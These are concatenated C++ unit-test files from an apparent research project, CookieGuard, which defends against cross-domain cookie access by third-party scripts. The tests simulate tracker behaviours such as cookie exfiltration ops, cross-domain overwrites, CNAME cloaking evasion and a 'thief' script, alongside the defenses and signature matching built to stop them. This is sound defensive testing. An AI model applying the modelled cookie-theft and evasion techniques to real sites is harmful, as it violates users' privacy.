    if (node->creator_domain() == "tracker.com") tracker_created = true;
  }
  EXPECT_TRUE(tracker_created);
  EXPECT_EQ(foreign.text(), "modified");
}

TEST(InterpreterTest, SiteHostPlaceholderInDestination) {
  FakeServices services;
  services.jar_string = "own=deadbeefdeadbeef";
  run_program({exfiltrate({"own"}, "{site}", Encoding::kRaw, "/api/t")},
              tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_TRUE(services.requests[0].starts_with("https://example.com/api/t?"));
}

}  // namespace
}  // namespace cg::script

// Appended: cookieStore.get(name) op coverage.
namespace cg::script {
namespace {

TEST(InterpreterTest, StoreGetResolvesSingleCookie) {
  FakeServices services;
  services.jar_string = "keep_alive=abc123def456; other=x";
  run_program({store_get("keep_alive")}, tracker_ctx(), services);
  EXPECT_EQ(services.store_gets, 1);
}

}  // namespace
}  // namespace cg::script
