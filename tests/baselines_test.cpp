// Tests for the baseline defenses (§2.1 comparison substrate).
#include <gtest/gtest.h>

#include "baselines/baselines.h"
#include "browser/page.h"
#include "script/interpreter.h"
#include "test_support.h"

namespace cg::baselines {
namespace {

using script::Category;
using testsupport::TestSite;
using testsupport::context_for_url;
using testsupport::spec_of;

TEST(FilterListBlockerTest, BlocksListedScriptInclusion) {
  TestSite site({"ga", "unlisted"});
  site.catalog().add(spec_of(
      "ga", "https://www.google-analytics.com/analytics.js",
      Category::kAnalytics,
      {script::set_cookie("_ga", "{hex:8}", "; Path=/", false)}));
  site.catalog().add(spec_of(
      "unlisted", "https://cdn.tinytracker77.net/t.js", Category::kAdvertising,
      {script::set_cookie("_tt", "{hex:8}", "; Path=/", false)}));

  FilterListBlocker blocker;
  site.browser().add_extension(&blocker);
  site.open();

  // google-analytics.com is on the list; the long-tail domain is not.
  EXPECT_FALSE(site.browser()
                   .jar()
                   .find("_ga", "www.shop.example", "/")
                   .has_value());
  EXPECT_TRUE(site.browser()
                  .jar()
                  .find("_tt", "www.shop.example", "/")
                  .has_value());
  EXPECT_EQ(blocker.stats().scripts_blocked, 1u);
}

TEST(FilterListBlockerTest, MissesCnameCloakedScripts) {
  TestSite site({"cloaked"});
  site.catalog().add(spec_of(
      "cloaked", "https://metrics.shop.example/ct.js", Category::kAnalytics,
      {script::set_cookie("_sA", "{hex:16}", "; Path=/", false)}));
  site.browser().dns().add_cname("metrics.shop.example",
                                 "collect.cloaktrack.net");
  FilterListBlocker blocker;
  site.browser().add_extension(&blocker);
  site.open();
  // The blocker matches on the visible domain (first-party) — cloak works.
  EXPECT_TRUE(site.browser()
                  .jar()
                  .find("_sA", "www.shop.example", "/")
                  .has_value());
}

TEST(FilterListBlockerTest, BlocksRequestsToListedDomains) {
  TestSite site;
  FilterListBlocker blocker;
  site.browser().add_extension(&blocker);
  auto page = site.open();
  const auto ctx = context_for_url("https://cdn.unlisted-helper.com/h.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.send_request(
        ctx, net::Url::must_parse("https://bat.bing.com/action?x=1"));
    services.send_request(
        ctx, net::Url::must_parse("https://api.unlisted.net/ok"));
  });
  EXPECT_EQ(blocker.stats().requests_blocked, 1u);
}

TEST(FilterListBlockerTest, NeverBlocksDocumentRequests) {
  TestSite site;
  FilterListBlocker blocker({"shop.example"});  // even if listed!
  site.browser().add_extension(&blocker);
  auto page = site.open();  // must load fine
  EXPECT_GT(page->main_frame().document().node_count(), 0u);
  EXPECT_EQ(blocker.stats().requests_blocked, 0u);
}

TEST(StoragePartitioningTest, IsInertInTheMainFrame) {
  TestSite site({"tracker"});
  site.catalog().add(spec_of(
      "tracker", "https://cdn.tracker.com/t.js", Category::kAdvertising,
      {script::set_cookie("_t", "{hex:8}", "; Path=/", false),
       script::read_cookies()}));
  StoragePartitioning partitioning;
  site.browser().add_extension(&partitioning);
  site.open();
  // Partitioning keys on the top-level site; the main-frame script still
  // ghost-writes into the shared first-party jar (§2.1).
  EXPECT_EQ(site.browser().jar().size(), 1u);
}

TEST(ThirdPartyCookieBlockingTest, CountsCrossSiteHeaders) {
  TestSite site({"px"});
  site.catalog().add(spec_of("px", "https://cdn.tracker.com/t.js",
                             Category::kAdvertising,
                             {script::beacon("cdn.tracker.com", "/p")}));
  site.browser().network().register_host(
      "cdn.tracker.com", [](const net::HttpRequest&) {
        net::HttpResponse res;
        res.headers.add("Set-Cookie", "3p=1");
        return res;
      });
  ThirdPartyCookieBlocking blocking;
  site.browser().add_extension(&blocking);
  site.open();
  EXPECT_GE(blocking.cross_site_headers_seen(), 1u);
  // And the jar never stored it (the browser itself drops cross-site
  // cookies — the mechanism is redundant in 2025).
  EXPECT_EQ(site.browser().jar().size(), 0u);
}

}  // namespace
}  // namespace cg::baselines
