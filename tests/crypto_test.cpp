// Unit tests for the crypto substrate against published test vectors.
#include <gtest/gtest.h>

#include <string>

#include "crypto/base64.h"
#include "crypto/crc32c.h"
#include "crypto/hex.h"
#include "crypto/md5.h"
#include "crypto/sha1.h"

namespace cg::crypto {
namespace {

// ------------------------------------------------------------- base64 ----

TEST(Base64Test, Rfc4648Vectors) {
  EXPECT_EQ(base64_encode(""), "");
  EXPECT_EQ(base64_encode("f"), "Zg==");
  EXPECT_EQ(base64_encode("fo"), "Zm8=");
  EXPECT_EQ(base64_encode("foo"), "Zm9v");
  EXPECT_EQ(base64_encode("foob"), "Zm9vYg==");
  EXPECT_EQ(base64_encode("fooba"), "Zm9vYmE=");
  EXPECT_EQ(base64_encode("foobar"), "Zm9vYmFy");
}

TEST(Base64Test, PaperIdentifierEncodesAsInLinkedInCase) {
  // §5.4 case study: the _ga user-id segment 444332364 is sent Base64'd.
  EXPECT_EQ(base64_encode("444332364"), "NDQ0MzMyMzY0");
}

TEST(Base64Test, UrlSafeAlphabetAndNoPadding) {
  const std::string bytes = "\xfb\xff\xfe";
  EXPECT_EQ(base64_encode(bytes), "+//+");
  EXPECT_EQ(base64url_encode(bytes), "-__-");
  EXPECT_EQ(base64url_encode("f"), "Zg");
}

TEST(Base64Test, DecodeRoundTrip) {
  const std::string data = "GA1.1.444332364.1746838827\x00\x01\xff";
  auto decoded = base64_decode(base64_encode(data));
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, data);
}

TEST(Base64Test, DecodeAcceptsBothAlphabetsAndNoPadding) {
  EXPECT_EQ(base64_decode("Zm9vYg"), "foob");
  EXPECT_EQ(base64_decode("-__-"), std::string("\xfb\xff\xfe"));
}

TEST(Base64Test, DecodeRejectsInvalid) {
  EXPECT_FALSE(base64_decode("a").has_value());       // 1 mod 4
  EXPECT_FALSE(base64_decode("Zm9v!A==").has_value());  // bad char
}

// ---------------------------------------------------------------- hex ----

TEST(HexTest, EncodesLowercase) {
  const std::uint8_t bytes[] = {0xDE, 0xAD, 0xBE, 0xEF, 0x00};
  EXPECT_EQ(to_hex(bytes), "deadbeef00");
}

// ---------------------------------------------------------------- md5 ----

TEST(Md5Test, Rfc1321Vectors) {
  EXPECT_EQ(Md5::hex(""), "d41d8cd98f00b204e9800998ecf8427e");
  EXPECT_EQ(Md5::hex("a"), "0cc175b9c0f1b6a831c399e269772661");
  EXPECT_EQ(Md5::hex("abc"), "900150983cd24fb0d6963f7d28e17f72");
  EXPECT_EQ(Md5::hex("message digest"), "f96b697d7cb7938d525a2f31aaf161d0");
  EXPECT_EQ(Md5::hex("abcdefghijklmnopqrstuvwxyz"),
            "c3fcd3d76192e4007dfb496cca67e13b");
  EXPECT_EQ(
      Md5::hex("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
      "d174ab98d277d9f5a5611c2c9f419d9f");
  EXPECT_EQ(Md5::hex("1234567890123456789012345678901234567890"
                     "1234567890123456789012345678901234567890"),
            "57edf4a22be3c955ac49da2e2107b67a");
}

TEST(Md5Test, IncrementalMatchesOneShot) {
  Md5 md5;
  md5.update("message ");
  md5.update("digest");
  EXPECT_EQ(to_hex(md5.digest()), Md5::hex("message digest"));
}

TEST(Md5Test, BlockBoundaryLengths) {
  // Exercise lengths straddling the 64-byte block and 56-byte pad boundary.
  for (const std::size_t len : {55u, 56u, 57u, 63u, 64u, 65u, 128u}) {
    const std::string data(len, 'x');
    Md5 split;
    split.update(data.substr(0, len / 2));
    split.update(data.substr(len / 2));
    EXPECT_EQ(to_hex(split.digest()), Md5::hex(data)) << "len=" << len;
  }
}

// --------------------------------------------------------------- sha1 ----

TEST(Sha1Test, Fips180Vectors) {
  EXPECT_EQ(Sha1::hex(""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
  EXPECT_EQ(Sha1::hex("abc"), "a9993e364706816aba3e25717850c26c9cd0d89d");
  EXPECT_EQ(Sha1::hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "84983e441c3bd26ebaae4aa1f95129e5e54670f1");
}

TEST(Sha1Test, MillionAs) {
  Sha1 sha;
  const std::string chunk(1000, 'a');
  for (int i = 0; i < 1000; ++i) sha.update(chunk);
  EXPECT_EQ(to_hex(sha.digest()),
            "34aa973cd4c4daa4f61eeb2bdbad27316534016f");
}

TEST(Sha1Test, BlockBoundaryLengths) {
  for (const std::size_t len : {55u, 56u, 57u, 63u, 64u, 65u, 128u}) {
    const std::string data(len, 'q');
    Sha1 split;
    split.update(data.substr(0, 1));
    split.update(data.substr(1));
    EXPECT_EQ(to_hex(split.digest()), Sha1::hex(data)) << "len=" << len;
  }
}

// -------------------------------------------------------------- crc32c ----

TEST(Crc32cTest, Rfc3720Vectors) {
  // iSCSI (RFC 3720 §B.4) reference vectors for CRC32C/Castagnoli.
  EXPECT_EQ(crc32c(std::string(32, '\x00')), 0x8A9136AAu);
  EXPECT_EQ(crc32c(std::string(32, '\xFF')), 0x62A8AB43u);
  std::string ascending, descending;
  for (int i = 0; i < 32; ++i) {
    ascending.push_back(static_cast<char>(i));
    descending.push_back(static_cast<char>(31 - i));
  }
  EXPECT_EQ(crc32c(ascending), 0x46DD794Eu);
  EXPECT_EQ(crc32c(descending), 0x113FDB5Cu);
}

TEST(Crc32cTest, CheckValue) {
  // The classic CRC "check" input.
  EXPECT_EQ(crc32c("123456789"), 0xE3069283u);
  EXPECT_EQ(crc32c(""), 0x00000000u);
}

TEST(Crc32cTest, IncrementalMatchesOneShot) {
  const std::string data = "the first-party cookie jar, block by block";
  for (std::size_t split = 0; split <= data.size(); ++split) {
    Crc32c crc;
    crc.update(std::string_view(data).substr(0, split));
    crc.update(std::string_view(data).substr(split));
    EXPECT_EQ(crc.value(), crc32c(data)) << "split=" << split;
  }
}

TEST(Crc32cTest, DetectsSingleBitFlips) {
  const std::string data = "CGAR block payload";
  const std::uint32_t good = crc32c(data);
  for (std::size_t byte = 0; byte < data.size(); ++byte) {
    for (int bit = 0; bit < 8; ++bit) {
      std::string bad = data;
      bad[byte] = static_cast<char>(bad[byte] ^ (1 << bit));
      EXPECT_NE(crc32c(bad), good) << "byte=" << byte << " bit=" << bit;
    }
  }
}

// Property: distinct inputs used by the exfiltration matcher produce
// distinct encodings under every supported transform.
TEST(EncodingProperty, TransformsAreDeterministicAndDistinct) {
  const std::string a = "868308499845957651";  // paper's _fbp browser id
  const std::string b = "868308499845957652";
  EXPECT_EQ(Md5::hex(a), Md5::hex(a));
  EXPECT_NE(Md5::hex(a), Md5::hex(b));
  EXPECT_NE(Sha1::hex(a), Sha1::hex(b));
  EXPECT_NE(base64_encode(a), base64_encode(b));
}

}  // namespace
}  // namespace cg::crypto
