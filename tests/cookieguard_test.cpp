// Tests for CookieGuard's enforcement: per-script-origin read filtering,
// cross-domain write blocking, site-owner full access, inline denial, entity
// grouping, per-site policies, and metadata (re-)attribution.
#include <gtest/gtest.h>

#include "cookieguard/cookieguard.h"
#include "script/interpreter.h"
#include "test_support.h"

namespace cg::cookieguard {
namespace {

using script::Category;
using testsupport::TestSite;
using testsupport::context_for_url;
using testsupport::inline_context;
using testsupport::spec_of;

class CookieGuardTest : public ::testing::Test {
 protected:
  // Builds a site where facebook.net's pixel has set _fbp and the site's own
  // script has set sess, then installs CookieGuard with `config`.
  std::unique_ptr<browser::Page> open_with(CookieGuardConfig config) {
    guard_.emplace(config);
    site_.emplace(std::vector<std::string>{});
    site_->browser().add_extension(&*guard_);
    auto page = site_->open();
    write_as("https://connect.facebook.net/fbevents.js",
             "_fbp=fb.1.1746.868308499845957651; Path=/", *page);
    write_as("https://www.shop.example/app.js", "sess=abc123; Path=/", *page);
    return page;
  }

  void write_as(const std::string& url, const std::string& line,
                browser::Page& page) {
    const auto ctx = context_for_url(url);
    page.run_as(ctx, [&](script::PageServices& services) {
      services.document_cookie_write(ctx, line);
    });
  }

  std::string read_as(const std::string& url, browser::Page& page) {
    const auto ctx = context_for_url(url);
    std::string out;
    page.run_as(ctx, [&](script::PageServices& services) {
      out = services.document_cookie_read(ctx);
    });
    return out;
  }

  std::optional<CookieGuard> guard_;
  std::optional<TestSite> site_;
};

TEST_F(CookieGuardTest, ScriptSeesOnlyItsOwnCookies) {
  auto page = open_with({});
  EXPECT_EQ(read_as("https://connect.facebook.net/fbevents.js", *page),
            "_fbp=fb.1.1746.868308499845957651");
  EXPECT_EQ(read_as("https://cdn.tracker.com/t.js", *page), "");
}

TEST_F(CookieGuardTest, SiteOwnerSeesEverything) {
  auto page = open_with({});
  const auto jar = read_as("https://www.shop.example/app.js", *page);
  EXPECT_NE(jar.find("_fbp="), std::string::npos);
  EXPECT_NE(jar.find("sess="), std::string::npos);
}

TEST_F(CookieGuardTest, SiteOwnerFullAccessCanBeDisabled) {
  CookieGuardConfig config;
  config.site_owner_full_access = false;
  auto page = open_with(config);
  EXPECT_EQ(read_as("https://www.shop.example/app.js", *page),
            "sess=abc123");
}

TEST_F(CookieGuardTest, SubdomainOfOwnerCountsAsOwner) {
  auto page = open_with({});
  // Different host, same eTLD+1 as the visited site.
  const auto jar = read_as("https://static.shop.example/bundle.js", *page);
  EXPECT_NE(jar.find("_fbp="), std::string::npos);
}

TEST_F(CookieGuardTest, CrossDomainOverwriteBlocked) {
  auto page = open_with({});
  write_as("https://ads.pubmatic.com/pwt.js", "_fbp=hijacked; Path=/", *page);
  EXPECT_EQ(site_->browser().jar().find("_fbp", "www.shop.example", "/")
                ->value,
            "fb.1.1746.868308499845957651");
  EXPECT_EQ(guard_->stats().writes_blocked, 1u);
}

TEST_F(CookieGuardTest, CrossDomainDeleteBlocked) {
  auto page = open_with({});
  write_as("https://cdn-cookieyes.com/script.js",
           "_fbp=; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT", *page);
  EXPECT_TRUE(site_->browser()
                  .jar()
                  .find("_fbp", "www.shop.example", "/")
                  .has_value());
}

TEST_F(CookieGuardTest, OwnerMayOverwriteAndDeleteItsCookie) {
  auto page = open_with({});
  write_as("https://connect.facebook.net/fbevents.js",
           "_fbp=fb.2.99.123456789012345678; Path=/", *page);
  EXPECT_EQ(site_->browser().jar().find("_fbp", "www.shop.example", "/")
                ->value,
            "fb.2.99.123456789012345678");
  write_as("https://connect.facebook.net/fbevents.js",
           "_fbp=; Path=/; Max-Age=-1", *page);
  EXPECT_FALSE(site_->browser()
                   .jar()
                   .find("_fbp", "www.shop.example", "/")
                   .has_value());
}

TEST_F(CookieGuardTest, NewCookieCreationAlwaysAllowed) {
  auto page = open_with({});
  write_as("https://new.vendor.com/v.js", "fresh=1; Path=/", *page);
  EXPECT_TRUE(site_->browser()
                  .jar()
                  .find("fresh", "www.shop.example", "/")
                  .has_value());
  EXPECT_EQ(guard_->store().creator("fresh"), "vendor.com");
}

TEST_F(CookieGuardTest, InlineScriptsDeniedByDefault) {
  auto page = open_with({});
  const auto ctx = inline_context();
  std::string jar = "unset";
  page->run_as(ctx, [&](script::PageServices& services) {
    jar = services.document_cookie_read(ctx);
    services.document_cookie_write(ctx, "inlined=1; Path=/");
  });
  EXPECT_EQ(jar, "");
  EXPECT_FALSE(site_->browser()
                   .jar()
                   .find("inlined", "www.shop.example", "/")
                   .has_value());
  EXPECT_GE(guard_->stats().inline_denied, 2u);
}

TEST_F(CookieGuardTest, InlineDenialCanBeDisabled) {
  CookieGuardConfig config;
  config.deny_inline_scripts = false;
  auto page = open_with(config);
  const auto ctx = inline_context();
  std::string jar;
  page->run_as(ctx, [&](script::PageServices& services) {
    jar = services.document_cookie_read(ctx);
  });
  EXPECT_NE(jar.find("_fbp="), std::string::npos);
}

TEST_F(CookieGuardTest, EntityGroupingGrantsSameEntityAccess) {
  CookieGuardConfig config;
  config.entity_grouping = true;
  auto page = open_with(config);
  // fbcdn.net and facebook.net are both Meta (the facebook.com Messenger
  // case of §7.2).
  const auto jar = read_as("https://static.fbcdn.net/chat.js", *page);
  EXPECT_NE(jar.find("_fbp="), std::string::npos);
  // An unrelated domain still sees nothing.
  EXPECT_EQ(read_as("https://cdn.tracker.com/t.js", *page), "");
}

TEST_F(CookieGuardTest, WithoutGroupingSameEntityIsBlocked) {
  auto page = open_with({});
  EXPECT_EQ(read_as("https://static.fbcdn.net/chat.js", *page), "");
}

TEST_F(CookieGuardTest, PerSitePolicyGrantsFullAccess) {
  CookieGuardConfig config;
  config.per_site_allowlist["shop.example"].insert("live.com");
  auto page = open_with(config);
  const auto jar = read_as("https://login.live.com/auth.js", *page);
  EXPECT_NE(jar.find("_fbp="), std::string::npos);
  EXPECT_NE(jar.find("sess="), std::string::npos);
}

TEST_F(CookieGuardTest, PerSitePolicyIsSiteScoped) {
  CookieGuardConfig config;
  config.per_site_allowlist["othersite.example"].insert("live.com");
  auto page = open_with(config);
  EXPECT_EQ(read_as("https://login.live.com/auth.js", *page), "");
}

TEST_F(CookieGuardTest, HttpSetCookieAttributedToResponseSite) {
  CookieGuardConfig config;
  guard_.emplace(config);
  site_.emplace(std::vector<std::string>{});
  site_->browser().network().register_host(
      "www.shop.example", [](const net::HttpRequest& req) {
        net::HttpResponse res;
        if (req.destination == net::RequestDestination::kDocument) {
          res.headers.add("Set-Cookie", "srv=fromserver; Path=/");
        }
        return res;
      });
  site_->browser().add_extension(&*guard_);
  auto page = site_->open();
  EXPECT_EQ(guard_->store().creator("srv"), "shop.example");
  // Site-owner script can read it; a tracker cannot.
  EXPECT_EQ(read_as("https://www.shop.example/app.js", *page),
            "srv=fromserver");
  EXPECT_EQ(read_as("https://cdn.tracker.com/t.js", *page), "");
}

TEST_F(CookieGuardTest, HttpResetReattributesCreator) {
  // The cnn.com minor-breakage mechanism (§7.2): a script-created cookie
  // re-emitted by the server flips its recorded creator to the first party,
  // after which the identity provider can no longer see it.
  auto page = open_with({});
  EXPECT_EQ(guard_->store().creator("_fbp"), "facebook.net");

  // Server re-sets _fbp with the same value.
  net::HttpRequest req;
  req.url = net::Url::must_parse("https://www.shop.example/reload");
  req.destination = net::RequestDestination::kDocument;
  net::HttpResponse res;
  const auto change = site_->browser().jar().set(
      req.url,
      *net::parse_set_cookie("_fbp=fb.1.1746.868308499845957651; Path=/"),
      site_->browser().clock().now(), cookies::JarApi::kHttp);
  guard_->on_headers_received(*page, req, res, {change});

  EXPECT_EQ(guard_->store().creator("_fbp"), "shop.example");
  EXPECT_EQ(read_as("https://connect.facebook.net/fbevents.js", *page), "");
}

TEST_F(CookieGuardTest, StoreReadFilteredPerOrigin) {
  auto page = open_with({});
  const auto shopify =
      context_for_url("https://cdn.shopifycloud.com/perf.js");
  page->run_as(shopify, [&](script::PageServices& services) {
    services.cookie_store_set(shopify, "keep_alive", "aaaabbbbcccc");
  });
  page->loop().run_until_idle();

  std::vector<script::StoreCookie> seen;
  page->run_as(shopify, [&](script::PageServices& services) {
    services.cookie_store_get_all(
        shopify,
        [&](std::vector<script::StoreCookie> cookies) { seen = cookies; });
  });
  page->loop().run_until_idle();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].name, "keep_alive");  // _fbp and sess filtered out
}

TEST_F(CookieGuardTest, StoreDeleteCrossDomainBlocked) {
  auto page = open_with({});
  const auto tracker = context_for_url("https://cdn.tracker.com/t.js");
  page->run_as(tracker, [&](script::PageServices& services) {
    services.cookie_store_delete(tracker, "_fbp");
  });
  page->loop().run_until_idle();
  EXPECT_TRUE(site_->browser()
                  .jar()
                  .find("_fbp", "www.shop.example", "/")
                  .has_value());
  EXPECT_EQ(guard_->stats().writes_blocked, 1u);
}

TEST_F(CookieGuardTest, DeletionErasesMetadataAllowingReclaim) {
  auto page = open_with({});
  // Owner deletes its cookie; afterwards another domain may create a cookie
  // of the same name and becomes the new owner.
  write_as("https://connect.facebook.net/fbevents.js",
           "_fbp=; Path=/; Max-Age=-1", *page);
  EXPECT_FALSE(guard_->store().creator("_fbp").has_value());
  write_as("https://other.vendor.net/v.js", "_fbp=mine123456; Path=/",
           *page);
  EXPECT_EQ(guard_->store().creator("_fbp"), "vendor.net");
}

TEST_F(CookieGuardTest, VisitStartResetsStoreButKeepsStats) {
  auto page = open_with({});
  write_as("https://ads.pubmatic.com/pwt.js", "_fbp=hijack; Path=/", *page);
  EXPECT_GT(guard_->store().size(), 0u);
  EXPECT_EQ(guard_->stats().writes_blocked, 1u);
  guard_->on_visit_start(site_->browser());
  EXPECT_EQ(guard_->store().size(), 0u);
  // Stats are crawl-cumulative (Figure 5 reports fleet-wide counts).
  EXPECT_EQ(guard_->stats().writes_blocked, 1u);
}

TEST_F(CookieGuardTest, ReadsFilteredCounterTracksHiddenCookies) {
  auto page = open_with({});
  read_as("https://cdn.tracker.com/t.js", *page);  // hides both cookies
  EXPECT_EQ(guard_->stats().reads_filtered, 1u);
  EXPECT_EQ(guard_->stats().cookies_hidden, 2u);
}

TEST(MetadataStoreTest, RecordLookupEraseSnapshot) {
  MetadataStore store;
  store.record("_ga", "googletagmanager.com");
  store.record("_fbp", "facebook.net");
  EXPECT_EQ(store.creator("_ga"), "googletagmanager.com");
  EXPECT_FALSE(store.creator("nope").has_value());
  store.record("_ga", "google-analytics.com");  // re-attribution
  EXPECT_EQ(store.creator("_ga"), "google-analytics.com");
  const auto snapshot = store.snapshot();
  EXPECT_EQ(snapshot.size(), 2u);
  store.erase("_ga");
  EXPECT_FALSE(store.creator("_ga").has_value());
  EXPECT_EQ(snapshot.size(), 2u);  // snapshot is a copy
}

}  // namespace
}  // namespace cg::cookieguard

// Appended: §8 counter-evasion — CNAME uncloaking and behaviour signatures.
namespace cg::cookieguard {
namespace {

using testsupport::TestSite;

TEST(SignatureDbTest, SignatureStableAcrossDelays) {
  script::ScriptSpec a;
  a.id = "a";
  a.ops = {script::set_cookie("_ga", "GA1.1.{rand:9}.{ts}"),
           script::run_async(300, {script::exfiltrate({"_ga"}, "x.com")})};
  script::ScriptSpec b = a;
  b.id = "b";
  b.ops[1].delay_ms = 1700;  // different scheduling, same behaviour
  EXPECT_EQ(SignatureDb::signature_of(a), SignatureDb::signature_of(b));
}

TEST(SignatureDbTest, DifferentBehavioursDiffer) {
  script::ScriptSpec a;
  a.ops = {script::set_cookie("_ga", "x")};
  script::ScriptSpec b;
  b.ops = {script::set_cookie("_gid", "x")};
  EXPECT_NE(SignatureDb::signature_of(a), SignatureDb::signature_of(b));
}

TEST(SignatureDbTest, BuildFromCatalogSkipsTemplatedAndInline) {
  browser::ScriptCatalog catalog;
  catalog.add(testsupport::spec_of("vendor", "https://cdn.vendor.com/v.js",
                                   script::Category::kAnalytics,
                                   {script::set_cookie("_v", "{hex:8}")}));
  catalog.add(testsupport::spec_of("fp", "https://{site}/app.js",
                                   script::Category::kFirstParty,
                                   {script::set_cookie("s", "{hex:8}")}));
  script::ScriptSpec inline_spec;
  inline_spec.id = "inline-copy";
  inline_spec.is_inline = true;
  inline_spec.ops = {script::set_cookie("_v", "{hex:8}")};
  catalog.add(inline_spec);

  SignatureDb db;
  db.build_from_catalog(catalog);
  EXPECT_EQ(db.size(), 1u);  // only the vendor script
  EXPECT_EQ(db.match_inline(catalog, "inline-copy"), "vendor.com");
}

TEST(CookieGuardEvasionTest, CloakedScriptPassesAsOwnerWithoutUncloaking) {
  TestSite site;
  site.browser().dns().add_cname("metrics.shop.example",
                                 "collect.cloaktrack.net");
  CookieGuard guard;
  site.browser().add_extension(&guard);
  auto page = site.open();

  // A vendor sets a cookie; the cloaked script reads the jar.
  const auto vendor =
      testsupport::context_for_url("https://connect.facebook.net/f.js");
  page->run_as(vendor, [&](script::PageServices& services) {
    services.document_cookie_write(vendor, "_fbp=fb.1.1.8683; Path=/");
  });
  const auto cloaked = testsupport::context_for_url(
      "https://metrics.shop.example/ct.js");
  std::string seen;
  page->run_as(cloaked, [&](script::PageServices& services) {
    seen = services.document_cookie_read(cloaked);
  });
  EXPECT_NE(seen.find("_fbp="), std::string::npos);  // full jar: evasion!
}

TEST(CookieGuardEvasionTest, UncloakingDemotesCloakedScript) {
  TestSite site;
  site.browser().dns().add_cname("metrics.shop.example",
                                 "collect.cloaktrack.net");
  CookieGuardConfig config;
  config.resolve_cname_cloaking = true;
  CookieGuard guard(config);
  site.browser().add_extension(&guard);
  auto page = site.open();

  const auto vendor =
      testsupport::context_for_url("https://connect.facebook.net/f.js");
  page->run_as(vendor, [&](script::PageServices& services) {
    services.document_cookie_write(vendor, "_fbp=fb.1.1.8683; Path=/");
  });
  const auto cloaked = testsupport::context_for_url(
      "https://metrics.shop.example/ct.js");
  std::string seen = "unset";
  page->run_as(cloaked, [&](script::PageServices& services) {
    services.document_cookie_write(cloaked, "_sA=abcdef0123456789; Path=/");
    seen = services.document_cookie_read(cloaked);
  });
  EXPECT_EQ(seen, "_sA=abcdef0123456789");  // only its own cookie
  // Ownership was recorded under the canonical tracker domain.
  EXPECT_EQ(guard.store().creator("_sA"), "cloaktrack.net");
}

TEST(CookieGuardEvasionTest, UncloakingLeavesHonestSubdomainsAlone) {
  TestSite site;  // no CNAME records at all
  CookieGuardConfig config;
  config.resolve_cname_cloaking = true;
  CookieGuard guard(config);
  site.browser().add_extension(&guard);
  auto page = site.open();
  const auto own = testsupport::context_for_url(
      "https://static.shop.example/bundle.js");
  const auto vendor =
      testsupport::context_for_url("https://connect.facebook.net/f.js");
  page->run_as(vendor, [&](script::PageServices& services) {
    services.document_cookie_write(vendor, "_fbp=fb.1.1.8683; Path=/");
  });
  std::string seen;
  page->run_as(own, [&](script::PageServices& services) {
    seen = services.document_cookie_read(own);
  });
  EXPECT_NE(seen.find("_fbp="), std::string::npos);  // still the site owner
}

TEST(CookieGuardEvasionTest, SignatureMatchingRestoresInlineVendorCopy) {
  TestSite site({"inline-copy"});
  site.catalog().add(testsupport::spec_of(
      "gtag", "https://www.googletagmanager.com/gtag/js",
      script::Category::kAnalytics,
      {script::set_cookie("_ga", "GA1.1.{rand:9}.{ts}", "; Path=/", false)}));
  script::ScriptSpec inline_copy;
  inline_copy.id = "inline-copy";
  inline_copy.category = script::Category::kAnalytics;
  inline_copy.is_inline = true;
  inline_copy.ops = {
      script::set_cookie("_ga", "GA1.1.{rand:9}.{ts}", "; Path=/", false)};
  site.catalog().add(inline_copy);

  SignatureDb signatures;
  signatures.build_from_catalog(site.catalog());
  CookieGuardConfig config;
  config.signature_db = &signatures;
  CookieGuard guard(config);
  site.browser().add_extension(&guard);

  site.open();  // the inline copy runs during load
  ASSERT_TRUE(site.browser().jar().find("_ga", "www.shop.example", "/"));
  EXPECT_EQ(guard.store().creator("_ga"), "googletagmanager.com");
}

TEST(CookieGuardEvasionTest, UnknownInlineStillDeniedWithSignatures) {
  TestSite site({"inline-unknown"});
  script::ScriptSpec unknown;
  unknown.id = "inline-unknown";
  unknown.is_inline = true;
  unknown.ops = {
      script::set_cookie("sneaky", "{hex:16}", "; Path=/", false)};
  site.catalog().add(unknown);

  SignatureDb signatures;
  signatures.build_from_catalog(site.catalog());
  CookieGuardConfig config;
  config.signature_db = &signatures;
  CookieGuard guard(config);
  site.browser().add_extension(&guard);

  site.open();
  EXPECT_FALSE(site.browser()
                   .jar()
                   .find("sneaky", "www.shop.example", "/")
                   .has_value());
}

}  // namespace
}  // namespace cg::cookieguard

// Appended: cookieStore.get is filtered like every other read.
namespace cg::cookieguard {
namespace {

TEST(CookieGuardStoreGetTest, SingleGetFilteredPerOrigin) {
  testsupport::TestSite site;
  CookieGuard guard;
  site.browser().add_extension(&guard);
  auto page = site.open();

  const auto owner =
      testsupport::context_for_url("https://connect.facebook.net/f.js");
  page->run_as(owner, [&](script::PageServices& services) {
    services.document_cookie_write(owner, "_fbp=fb.1.1.8683; Path=/");
  });

  const auto thief = testsupport::context_for_url("https://cdn.thief.io/t.js");
  bool thief_saw = true;
  page->run_as(thief, [&](script::PageServices& services) {
    services.cookie_store_get(thief, "_fbp",
                              [&](std::optional<script::StoreCookie> c) {
                                thief_saw = c.has_value();
                              });
  });
  page->loop().run_until_idle();
  EXPECT_FALSE(thief_saw);

  bool owner_saw = false;
  page->run_as(owner, [&](script::PageServices& services) {
    services.cookie_store_get(owner, "_fbp",
                              [&](std::optional<script::StoreCookie> c) {
                                owner_saw = c.has_value();
                              });
  });
  page->loop().run_until_idle();
  EXPECT_TRUE(owner_saw);
}

}  // namespace
}  // namespace cg::cookieguard
