// Serving-tier tests: zipfian workload determinism and shape, hot-block
// cache admission/eviction/stats semantics, the query line protocol, and
// Server answers — aggregate == batch fold, per-site == random access,
// and N-thread == 1-thread byte-identity.
#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "analysis/analyzer.h"
#include "analysis/archive.h"
#include "corpus/corpus.h"
#include "crawler/crawler.h"
#include "report/report.h"
#include "serve/cache.h"
#include "serve/query.h"
#include "serve/server.h"
#include "serve/workload.h"
#include "store/delta_codec.h"
#include "store/reader.h"
#include "store/writer.h"

namespace cg::serve {
namespace {

// ---- workload -------------------------------------------------------------

